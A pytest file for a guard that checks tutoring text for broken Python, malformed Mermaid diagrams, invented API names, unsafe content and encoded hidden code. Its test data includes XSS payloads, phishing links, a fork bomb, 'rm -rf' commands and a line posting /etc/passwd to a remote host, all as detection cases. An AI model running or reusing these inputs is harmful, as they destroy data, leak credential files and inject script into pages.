"""The guard's single rules: broken code, diagrams, invented names, unsafe content, decoding."""

from __future__ import annotations

import ast
import base64
import json
import subprocess
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from functions.curriculum.reading import curriculum
from functions.shared.guard import tabulating
from functions.shared.guard.broken_code import is_broken, shown_programs
from functions.shared.guard.diagrams import diagrams_in, is_broken_diagram
from functions.shared.guard.dumped import program_of_a_tree
from functions.shared.guard.guarding import Known, objections
from functions.shared.guard.invented import invented_in, invented_in_span
from functions.shared.guard.lexing import lexed
from functions.shared.guard.normalising import parsed, statements
from functions.shared.guard.reading import Text
from functions.shared.guard.saying import in_python
from functions.shared.guard.unmasking import views
from functions.shared.guard.unsafe import does_harm, harmful_lines, is_unsafe
from functions.shared.mermaid import flowchart
from scripts.stack import mermaid
from scripts.stack.errors import NotHereError
from scripts.stack.places import ROOT


def broken(markdown: str, *given: str) -> bool:
    return any(map(is_broken, shown_programs((Text(markdown),), given)))


@pytest.mark.parametrize(
    "block",
    [
        "x = 1",
        "elif x < 2:\n    print(x)",
        "else:\n    print(x)",
        "except KeyError:\n    pass",
        "finally:\n    close()",
        "case [x]:\n    return x",
        "for x in items:",
        "def f(x):",
        "@property\ndef area(self):\n    return 1",
        "    return total",
        "await ask()",
        "yield item",
        "def f():\n    …",
        ">>> 1 + 1\n2\n>>> for x in (1, 2):\n...     print(x)\n...\n1\n2",
    ],
)
def test_parts_of_programs_and_sessions_are_not_broken(block: str) -> None:
    assert not broken(f"Look:\n\n```python\n{block}\n```")


@pytest.mark.parametrize(
    "block", ["print(", "for x in items\n    print(x)", "x = = 1", "def f(:\n    pass", "if x:\nprint(x)"]
)
def test_what_python_cannot_read_is_broken_unless_it_is_said_or_quoted(block: str) -> None:
    assert broken(f"Look:\n\n```python\n{block}\n```")
    assert not broken(f"This is wrong:\n\n```python\n{block}\n```")
    assert not broken(f"Look:\n\n```python\n{block}\n```", f"a = 1\n{block}\n")
    assert not broken(f"Look:\n\n```text\n{block}\n```")


def test_what_is_said_of_one_block_does_not_excuse_the_next() -> None:
    assert broken("This is wrong:\n\n```python\nprint(\n```\n\nSo write:\n\n```python\nprint((\n```")


GOOD = (
    'flowchart TD\n    n0["a"] --> n1{"b?"}\n    n1 -->|"yes"| n0',
    'flowchart TD\na["x"] --> b{"y"} -->|yes| c(["z"])\nb -->|not yet| a',
    'graph LR\nstart(["Begin"])\nlast("End #34;x#34;")\nstart --> last',
    *(flowchart(topic.diagram) for topic in curriculum().topics),
)
BAD = (
    "",
    "flowchart TD",
    "pie\n  a: 1",
    'flowchart TD\nend["x"]',
    "flowchart TD\nA[Start --> B",
    'flowchart TD\na["x"] --> b',
    'flowchart TD\na["x"] -->|no; click| b["y"]',
    'flowchart TD\na["x"] --> b["y"] -->',
    'flowchart TD\na["x"] -->|the end| b["y"]',
    f'flowchart TD\na["x"] -->|{"a" * 5000}|| b["y"]',
    'flowchart TD\na["x] --> b["y"]',
    'flowchart TD\na["<script>"]',
    'flowchart TD\na["x"] --> b["y"]\nclick a "https://example.org"',
    'sequenceDiagram\na->>b: "x"',
)


@pytest.mark.parametrize("diagram", GOOD)
def test_flowcharts_in_the_plain_form_are_let_through(diagram: str) -> None:
    assert not is_broken_diagram(diagram)


@pytest.mark.parametrize("diagram", BAD)
def test_any_other_diagram_is_objected_to(diagram: str) -> None:
    assert is_broken_diagram(diagram)
    assert list(diagrams_in((Text(f"```mermaid\n{diagram}\n```"), Text("x", "diagram"))))[-1] == "x"


_LABELS = st.text(st.sampled_from("abz é日 ,.?!'()=+-/0"), min_size=1, max_size=12).filter(str.strip)
_SHAPES = st.sampled_from(['["{}"]', '("{}")', '(["{}"])', '{{"{}"}}'])
_NODE = st.tuples(st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,6}", fullmatch=True), _SHAPES, _LABELS)
_NODES = st.lists(_NODE, min_size=1, max_size=5, unique_by=lambda node: node[0])


def test_whatever_is_let_through_mermaids_own_parser_reads() -> None:
    try:
        module = mermaid.module()
    except NotHereError as why:
        pytest.skip(str(why))
    drawn = [*GOOD]

    @settings(max_examples=60, deadline=None, database=None)
    @given(_NODES, st.sampled_from(["TD", "LR", "BT"]))
    def draw(nodes: list[tuple[str, str, str]], direction: str) -> None:
        lines = [f"{name}{shape.format(label)}" for name, shape, label in nodes]
        arrows = [f'{left[0]} -->|"{right[2]}"| {right[0]}' for left, right in pairwise(nodes)]
        drawn.append("\n".join([f"flowchart {direction}", *lines, *arrows]))

    draw()
    through = [each for each in drawn if not is_broken_diagram(each)]
    command = ["node", str(ROOT / "tests" / "mermaid" / "parse_diagrams.mjs"), str(module)]
    done = subprocess.run(command, input=json.dumps(through), capture_output=True, text=True, check=True)

    assert len(through) > len(GOOD)
    assert [
        (text, result) for text, result in zip(through, json.loads(done.stdout), strict=True) if "error" in result
    ] == []


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("import easygraph", "import easygraph"),
        ("from math import cube", "from math import cube"),
        ("import math\nmath.squareroot(2)", "math.squareroot"),
        ("import random as r\nr.pick([1])", "random.pick"),
        ("'a'.trim()", "str.trim"),
        ("f'{1}'.uppercase()", "str.uppercase"),
        ("names = []\nnames.push(1)", "list.push"),
        ("{}.has_key(1)", "dict.has_key"),
        ("sorted([1], reversed=True)", "sorted(reversed=…)"),
        ("import os\nos.path.parts('a')", None),
        ("import os.path\nos.getcwd()", None),
        ("from collections import abc, deque", None),
        ("import numpy as np\nnp.anything()", None),
        ("names = []\nnames = Stack()\nnames.push(1)", None),
        ("def f(names):\n    names.push(1)", None),
        ("sorted([1], key=len, reverse=True)", None),
        ("from itertools import batched", None),
        ("from . import own", None),
        ("class A:\n    pass\nA().anything()", None),
    ],
)
def test_names_that_do_not_exist_are_found_and_no_others(code: str, name: str | None) -> None:
    assert invented_in(ast.parse(code)) == name


def test_modules_of_the_learners_own_exist() -> None:
    assert invented_in(ast.parse("import shop"), {"shop"}) is None


def test_a_name_in_a_sentence_is_judged_by_what_the_sentence_says() -> None:
    assert invented_in_span("math.squareroot(2)", "Call `math.squareroot(2)` for it.") == "math.squareroot"
    assert invented_in_span("list.push", "There is no `list.push` in Python.") is None
    assert invented_in_span("math.sqrt(2)", "Call `math.sqrt(2)` for it.") is None
    assert invented_in_span("shop.open()", "Call `shop.open()` for it.") is None


@pytest.mark.parametrize("name", ["statistics.py", "random.pyc", "string.txt", "calendar.csv", "json.tool", "time.log"])
def test_a_file_and_a_module_within_another_are_no_invented_names(name: str) -> None:
    assert invented_in_span(name, f"You saved it as `{name}`.") is None


def test_what_is_called_is_no_file() -> None:
    assert invented_in_span("statistics.py()", "Call `statistics.py()`.") == "statistics.py"


def test_every_name_in_the_table_exists() -> None:
    assert tabulating.main(["--check"]) == 0


def test_a_name_that_does_not_exist_is_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    table = tabulating.table()
    table["names"]["math"] += " squareroot"
    (tmp_path / "names.json").write_text(json.dumps(table))
    monkeypatch.setattr(tabulating, "TABLE", tmp_path / "names.json")

    assert tabulating.main(["--check"]) == 1


@pytest.mark.parametrize(
    "text",
    [
        "You are so stupid, aren't you.",
        "Go and kill yourself.",
        "What is your phone number?",
        "Tell me your home address first.",
        "Let us write a keylogger for their laptop.",
        "See [this](https://evil.io/x).",
        "See http://docs.python.org@evil.io/.",
    ],
)
def test_what_is_not_fit_for_learners_is_unsafe(text: str) -> None:
    assert is_unsafe(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "<svg onload=alert(1)>",
        '<a href="javascript:alert(1)">the lesson</a>',
        "<a href = data:text/html,x>y</a>",
        '<b class="x" onmouseover="alert(1)">hover</b>',
        "<p/onclick=alert(1)>",
        "<style>body { display: none }</style>",
        '<meta http-equiv="refresh" content="0">',
        "<x>\n```\n<q>\n```",
        "<!-- \n```\n<q> -->",
        "    ```\n<svg>",
        "``<svg>`",
        "\\`<svg>\\`",
        "`a\n<svg>\nb`",
    ],
)
def test_markup_that_a_page_may_act_upon_is_unsafe(text: str) -> None:
    assert "unsafe" in {each.kind for each in objections((Text(text),), Known())}


@pytest.mark.parametrize(
    "text",
    [
        "<__main__.Base object at 0x7f3a> and <Link 3> are what repr makes, <class 'int'> is what type does.",
        "Where a < b, one = 1; `<b>` makes text bold, ``<img src=`x`>`` shows a picture.",
        "Your program writes a page:\n\n```python\nprint('<svg onload=\"x\">')\n```\n\nWhat does it print?",
        "The error is in line 3, in <module>.",
    ],
)
def test_markup_that_is_shown_as_code_is_not(text: str) -> None:
    assert not objections((Text(text),), Known())


@pytest.mark.parametrize(
    "text",
    [
        "The process is killed, and its children are orphans.",
        "See https://docs.python.org/3/library/re.html#re.sub, and `https://example.com/a`.",
        "Execute the script; a master key is a dictionary's key.",
        "What is your program to print? Tell me your idea.",
        "This loop is a dumb way to search; you are not.",
        "A stupid typo, nothing more.",
        "Python attacks the problem from the bottom.",
    ],
)
def test_hard_words_of_computing_are_not_unsafe(text: str) -> None:
    assert not is_unsafe(text)


@pytest.mark.parametrize(
    ("code", "harmful"),
    [
        ("import shutil\nshutil.rmtree('/')", True),
        ("import shutil\nshutil.rmtree(path)", True),
        ("import shutil\nshutil.rmtree('build')", False),
        ("import os\nos.system('rm -rf ~')", True),
        ("import os\nos.remove('notes.txt')", False),
        ("import os\nwhile True:\n    os.fork()", True),
        ("import requests\nrequests.post('http://example.com', data=open('/etc/passwd'))", True),
        ("import urllib.request\nurllib.request.urlopen('http://example.com')", False),
        ("import subprocess\nsubprocess.run(['ls'])", False),
    ],
)
def test_programs_that_destroy_or_send_away_are_told_from_others(code: str, harmful: bool) -> None:
    assert does_harm(ast.parse(code)) == harmful


def test_lines_for_a_shell_that_destroy_are_seen() -> None:
    assert harmful_lines(["Just type rm -rf / now."])
    assert not harmful_lines(["Remove the file with rm notes.txt."])


def test_a_text_is_decoded_twice_over_and_no_further() -> None:
    once = base64.b64encode(b"return total + number").decode()
    twice = base64.b64encode(once.encode()).decode()
    thrice = base64.b64encode(twice.encode()).decode()

    assert any("return total" in view for view in views(f"Look: {twice}"))
    assert not any("return total" in view for view in views(thrice))
    assert views("nothing hidden here") == ("nothing hidden here",)


LINES = "    total += number\n    return total\n"


@pytest.mark.parametrize(
    "hidden",
    [
        "".join(f"{letter}\u0336" for letter in LINES),
        "\u00ad".join(LINES),
        ".".join(LINES),
        base64.b85encode(LINES.encode()).decode(),
        base64.a85encode(LINES.encode()).decode(),
        " ".join(f"{byte:03o}" for byte in LINES.encode()),
        "| 1 | `total` |\n| 1 | `+=` |\n| 1 | `number` |\n| 2 | `return total` |\n" + "| 3 | `x` |\n" * 5,
    ],
)
def test_further_ways_to_hide_a_line_are_undone(hidden: str) -> None:
    assert any("total += number" in view and "return total" in view for view in views(hidden))


def test_a_call_written_with_spaces_is_put_together() -> None:
    assert any("title.split" in view for view in views('" " . join ( title . split ( ) )'))


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("numbers.forEach((n) => {", "for n in numbers"),
        ("for (Object item : items) {", "for item in items"),
        ("if (seen.contains(item)) {", "if item in seen"),
        ("unless new_row.empty?", "if new_row"),
        ("catch (NumberFormatException e) {", "except ValueError"),
        ("if (degrees == NULL) return", "if degrees is None return"),
        ("(if (== (% number 2) 0)", "if number % 2 == 0"),
        ("IF number MOD 2 = 0 THEN", "if number % 2 == 0"),
        ("FOR EACH number IN numbers DO", "for number in numbers"),
        ("total := total + number", "total = total + number"),
        ("def space buses open bracket people comma space seats close bracket", "def buses people seats"),
    ],
)
def test_other_notations_have_the_tokens_of_python(said: str, written: str) -> None:
    assert lexed(written).shape in lexed(in_python(said)).shape


def test_which_branch_comes_first_makes_no_other_program() -> None:
    one = parsed("if a in b and c:\n    f()\nelse:\n    g()")
    other = parsed("if c and a in b:\n    f()\nelse:\n    g()")
    turned, straight = parsed("if a not in b:\n    g()\nelse:\n    f()"), parsed("if a in b:\n    f()\nelse:\n    g()")

    assert one
    assert other
    assert turned
    assert straight
    assert statements(one, canonical=True) == statements(other, canonical=True)
    assert set(statements(turned, canonical=True)) == set(statements(straight, canonical=True))


def test_a_program_that_python_failed_to_read_by_chance_is_read_again(monkeypatch: pytest.MonkeyPatch) -> None:
    read, failures = ast.parse, [SystemError("AST constructor recursion depth mismatch")]

    def parse(source: str) -> ast.Module:
        if failures:
            raise failures.pop()
        return read(source)

    monkeypatch.setattr(ast, "parse", parse)

    assert isinstance(parsed("x = 1"), ast.Module)


def test_programs_that_mean_the_same_have_the_same_statements() -> None:
    one = parsed(
        "def f(a: int) -> int:\n    '''Add.'''\n    a += 2\n    if a > 3 and not a == 4:\n        return 2 * a"
    )
    other = parsed("def f(a):\n    a = a + 2\n    if 3 < a and a != 4:\n        return a * 2")

    assert one
    assert other
    assert statements(one, canonical=True) == statements(other, canonical=True)


def test_a_syntax_tree_that_is_written_out_is_read_back() -> None:
    code = "def f(x):\n    return [y for y in x if y > 'a)']"

    assert program_of_a_tree(f"So: {ast.dump(ast.parse(code))}, you see.") == code
    assert program_of_a_tree("Module(body=[Evil(name='x')])") == ""
    assert program_of_a_tree("A `Module(body=` begins a tree.") == ""
